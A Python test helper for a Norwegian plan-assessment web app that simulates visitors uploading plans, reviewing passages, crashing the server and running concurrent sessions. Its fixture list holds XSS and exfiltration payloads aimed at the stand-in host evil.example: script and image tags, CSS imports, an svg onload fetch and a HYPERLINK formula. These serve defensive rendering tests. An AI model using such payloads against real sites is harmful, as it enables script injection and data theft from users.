"""What people do in the app, as the tests and the benchmark of the app do it."""

import time
from pathlib import Path

from aligncheck.assess import check
from aligncheck.decisions import DecisionAction
from aligncheck.documents import read_document
from aligncheck.store import PlanRecord, Store
from tests.app.browser import CHROMIUM, FLAGS, PATIENCE, Server, Visitor
from tests.app.term_judge import TermJudge

EVIL_NAME = 'plan ![x](http://evil.example/n.png) <img src="http://evil.example/n2.png">.pdf'
EVIL_REVIEWER = "![x](http://evil.example/r.png)"
PAYLOADS = [
    "![x](http://evil.example/a.png) fylkeskommunen skal kutte klimagassutslipp innen 2030",
    '<img src="http://evil.example/b.png"> klimatilpasning skal skje innen 2030 i kommunene',
    "<style>@import url(http://evil.example/c.css)</style> sirkulær økonomi skal styrkes her",
    '<iframe src="http://evil.example/d"></iframe> naturmangfold skal tas vare på innen 2031',
    "[klikk](javascript:alert(1)) private investeringer i grønn næring skal øke innen 2032",
    "www.evil.example http://evil.example/e :red[rødt] $x^2$ innbyggerne skal medvirke i planen",
    '=HYPERLINK("http://evil.example/f","f") smart spesialisering skal prioritere havbruk her',
    "</div></blockquote><script src=http://evil.example/g.js></script> utdanning skal styrkes",
    '"><svg onload=fetch("http://evil.example/h")> god helse og livskvalitet skal fremmes her',
]
PAGES = ("/", "/wheel", "/connections", "/review", "/compare", "/drafts", "/corpus", "/method")


def evil_plan(store: Store) -> str:
    """A plan full of payloads, under a name that is one; the id of its check."""
    text = "\n\n".join(f"# Tiltak {line}\n\n{line}." for line in PAYLOADS)
    kept = store.save_file(text.encode(), name="plan.md")
    record = PlanRecord(title=EVIL_NAME, county=EVIL_NAME[:60], plan_type="**fet** <b>x</b>")
    return store.save_assessment(check(read_document(kept), judge=TermJudge()), plan=record)


def upload(person: Visitor, path: Path | dict) -> None:
    """Choose the file and ask for the check."""
    page = person.go("/?new=1")
    page.locator("input[type=file]").set_input_files(path)
    page.get_by_role("button", name="Sjekk planen", exact=True).click()


def review_until_killed(
    browser, server: Server, store: Store, id: str, *, name: str, pause: float
) -> tuple[int, int]:
    """One accepted passage that the screen shows as saved, one verdict cut off by kill -9.

    Gives back how many decisions the screen had shown, and how many of them the store has.
    """
    person = Visitor(browser, server.url)
    person.sign(name)
    person.go(f"/review?plan={id}&what=evidence")
    person.press("Godta")
    person.page.wait_for_selector("text=/^1 av /")
    person.page.get_by_role("button", name="Avvis").click(no_wait_after=True)
    time.sleep(pause)
    server.kill()
    person.close()
    kept = [item.action for item in store.decisions(id) if item.reviewer == name]
    assert kept in ([DecisionAction.ACCEPT], [DecisionAction.ACCEPT, DecisionAction.REJECT])
    return 1, kept.count(DecisionAction.ACCEPT)


def marker_plan(word: str) -> bytes:
    lines = [
        f"Fylkeskommunen skal kutte klimagassutslipp med {word} prosjekter innen 2030.",
        f"Vi skal styrke sirkulær økonomi og {word} i alle kommuner innen 2031 for 4 mill. kr.",
    ]
    return "\n\n".join(["# Tiltak", *lines]).encode()


def upload_many(url: str, session: int, uploads: int) -> tuple[list[str], list[str]]:
    """One person's uploads, one after another.

    Gives back the marks of those that came out right, and those in which another's was seen.
    """
    from playwright.sync_api import sync_playwright

    right, foreign = [], []
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        person = Visitor(opened, url)
        for number in range(uploads):
            word = f"merke{session}x{number}y"
            file = {"name": f"{word}.md", "mimeType": "text/markdown", "buffer": marker_plan(word)}
            upload(person, file)
            person.page.wait_for_selector("text=Planen dekker", timeout=10 * PATIENCE)
            quotes = " ".join(person.page.locator(".quote").all_inner_texts())
            person.go(f"{person.page.url.removeprefix(url)}&show=covered")
            quotes += " ".join(person.page.locator(".quote").all_inner_texts())
            if "merke" in quotes.replace(word, ""):
                foreign.append(word)
            elif word in quotes:
                right.append(word)
        opened.close()
    return right, foreign
